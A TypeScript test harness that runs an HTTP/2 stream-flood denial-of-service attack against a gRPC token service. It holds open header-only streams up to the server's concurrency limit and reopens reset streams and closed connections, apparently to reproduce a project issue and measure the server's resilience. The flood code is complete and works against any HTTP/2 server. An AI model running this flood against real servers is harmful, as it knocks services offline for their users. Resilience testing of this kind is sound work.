import { spawn } from "node:child_process";
import { type ClientHttp2Session, connect } from "node:http2";
import { fileURLToPath } from "node:url";

/** Options of {@link startStreamFlood}. */
export interface StreamFloodOptions {
  /** `http://host:port` or `https://host:port`. */
  url: string;
  connections: number;
  /** Streams each connection opens in all, as many at once as the server allows (SETTINGS_MAX_CONCURRENT_STREAMS). */
  streamsPerConnection: number;
  /** PEM of the CA that signed the server's certificate, for https. */
  ca?: string;
  /** Request headers besides the gRPC ones, such as a (wrong) authorization. */
  headers?: Record<string, string>;
  /** Default: ClusterTokenService/GenerateToken. */
  path?: string;
}

/** What the flood has seen so far. */
export interface StreamFloodStats {
  /** Streams opened. */
  opened: number;
  /** Streams that got a response (a trailers-only status, for every stream the server answered). */
  answered: number;
  /** Streams closed by the server while the client still had its side open: resets. */
  reset: number;
  /** The longest time from opening a stream to its close, in ms: how long the server held it. */
  longestLifeMs: number;
  /** Connections the server closed; each is replaced by a new one until the flood stops. */
  connectionsClosed: number;
}

/**
 * The attack of issue 18: each connection opens streams that send headers and
 * nothing else, and never ends them, as many at once as the server allows. Every
 * stream the server resets is replaced, and every connection it closes too, so the
 * pressure lasts as long as the flood.
 */
export function startStreamFlood(options: StreamFloodOptions): { readonly stats: StreamFloodStats; stop(): void } {
  const stats: StreamFloodStats = { opened: 0, answered: 0, reset: 0, longestLifeMs: 0, connectionsClosed: 0 };
  const sessions = new Set<ClientHttp2Session>();
  let stopped = false;
  const headers = {
    ":method": "POST",
    ":path": options.path ?? "/clustertoken.v1.ClusterTokenService/GenerateToken",
    "content-type": "application/grpc",
    te: "trailers",
    ...options.headers,
  };
  // One connection at a time per slot; when the server closes it, the attacker comes back.
  const connectOne = () => {
    const session = connect(options.url, options.ca ? { ca: options.ca } : {});
    sessions.add(session);
    session.on("error", () => {});
    session.once("close", () => {
      sessions.delete(session);
      stats.connectionsClosed++;
      if (!stopped) setTimeout(connectOne, 10);
    });
    session.once("remoteSettings", (settings) => {
      // As many streams as the server allows at once (all of them, if it sets no limit), replaced as it resets them.
      const window = settings.maxConcurrentStreams ?? Number.POSITIVE_INFINITY;
      let opened = 0;
      let open = 0;
      let filling = false;
      const fill = () => {
        filling = false;
        // In batches, so that every connection starts at once and the flood process stays responsive.
        for (let i = 0; i < 500 && open < window && opened < options.streamsPerConnection; i++) {
          if (session.closed || session.destroyed) return;
          const stream = session.request(headers, { endStream: false });
          const openedAt = performance.now();
          opened++;
          open++;
          stats.opened++;
          stream.once("response", () => stats.answered++);
          stream.on("error", () => {});
          // The client never ends its side, so a close is the server's reset (or the connection's end).
          stream.once("close", () => {
            open--;
            stats.reset++;
            stats.longestLifeMs = Math.max(stats.longestLifeMs, performance.now() - openedAt);
            refill();
          });
        }
        refill();
      };
      const refill = () => {
        if (filling || open >= window || opened >= options.streamsPerConnection) return;
        filling = true;
        setImmediate(fill);
      };
      fill();
    });
  };
  for (let c = 0; c < options.connections; c++) connectOne();
  return {
    stats,
    stop: () => {
      stopped = true;
      for (const session of sessions) session.destroy();
    },
  };
}

/**
 * Runs the flood in a process of its own, so that its work does not slow the side
 * that measures: the last stats it printed, and a stop that waits for its exit.
 */
export function spawnStreamFlood(options: StreamFloodOptions): { stats(): StreamFloodStats | undefined; stop(): Promise<void> } {
  const child = spawn(process.execPath, [fileURLToPath(import.meta.url), JSON.stringify(options)], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  let stats: StreamFloodStats | undefined;
  child.stdout.setEncoding("utf8").on("data", (d: string) => {
    const last = d.trim().split("\n").at(-1);
    if (last) stats = JSON.parse(last) as StreamFloodStats;
  });
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  return {
    stats: () => stats,
    stop: () => {
      child.kill("SIGTERM");
      return exited;
    },
  };
}

/** Run as a process: `node stream-flood.js '<StreamFloodOptions as JSON>'` prints its stats as a JSON line every 200 ms until killed. */
if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const flood = startStreamFlood(JSON.parse(process.argv[2]!) as StreamFloodOptions);
  setInterval(() => process.stdout.write(`${JSON.stringify(flood.stats)}\n`), 200);
  process.once("SIGTERM", () => {
    flood.stop();
    process.exit(0);
  });
}
